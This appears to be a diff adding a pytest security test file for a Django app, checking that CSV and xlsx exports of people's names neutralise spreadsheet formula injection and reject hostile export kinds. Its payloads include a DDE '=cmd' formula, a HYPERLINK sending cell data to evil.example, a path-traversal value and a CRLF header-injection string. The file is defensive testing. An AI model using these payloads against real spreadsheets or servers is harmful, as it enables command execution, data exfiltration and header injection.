@@ -1,0 +1,63 @@
+"""Exports: a cell that a spreadsheet would run, a file that opens in the browser, a name that escapes.
+
+Elsewhere: rows of others by the filters (test_object_references.py, here), who exported whom (tests/beneficiaries/people).
+"""
+
+import csv
+import io
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook  # type: ignore[import-untyped]  # ships no types
+
+from beneficiaries.people.models import PersonIdentity
+from inclusiv.core.sheets import FORMULA_STARTS
+from inclusiv.demo.make import beneficiaries
+from tests.attacks.conftest import Attacker
+from tests.world import World
+
+FORMULAS = (
+    "=cmd|'/c calc'!A0", "+1+cmd", "-2+3", "@SUM(1+1)", '=HYPERLINK("https://evil.example?x="&A1;"ici")', "＝1+1",
+    "=IMPORTXML(CONCAT(A1),B1)", '";=1+1;"', "'=1+1",
+)  # fmt: skip
+
+
+@pytest.fixture
+def named(world: World) -> World:
+    """People whose names are formulas: as an employer may type them, and as an import may have brought them."""
+    for rank, formula in enumerate(FORMULAS):
+        made = beneficiaries.dossier(world.own.structure, first_name=formula, last_name=f"{formula}{rank}")
+        PersonIdentity.objects.filter(person=made.person_id).update(email=f"{rank}@example.org")
+    return world
+
+
+def exported(browser: Attacker, world: World, kind: str) -> bytes:
+    answer = browser.acting(world.cast.facilitator).get(reverse("people:list"), {"export": kind})
+    assert answer.headers["Content-Disposition"].startswith("attachment; filename=")
+    assert answer.headers["X-Content-Type-Options"] == "nosniff"
+    return bytes(answer.received)
+
+
+def test_to_have_a_spreadsheet_run_a_name_of_a_csv(named: World, browser: Attacker) -> None:
+    text = exported(browser, named, "csv").decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    assert {len(row) for row in rows} == {len(rows[0])}
+    live = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
+    assert live == []
+    assert [cell for row in rows for cell in row if cell.startswith("'=HYPERLINK")]
+
+
+def test_to_have_a_spreadsheet_run_a_name_of_a_workbook(named: World, browser: Attacker) -> None:
+    sheet = load_workbook(io.BytesIO(exported(browser, named, "xlsx"))).active
+    assert sheet is not None
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert any(str(cell.value).startswith("=cmd") for cell in cells)
+    assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
+
+
+@pytest.mark.parametrize("kind", ["html", "exe", "../../etc/passwd", "csv\r\nSet-Cookie: a=b", "CSV"])
+def test_to_have_an_export_of_a_kind_of_one_s_own(world: World, browser: Attacker, kind: str) -> None:
+    answer = browser.acting(world.cast.facilitator).get(reverse("people:list"), {"export": kind})
+    assert answer.headers["Content-Type"].startswith("text/html")
+    assert "Content-Disposition" not in answer.headers
+    assert "Set-Cookie" not in answer.headers
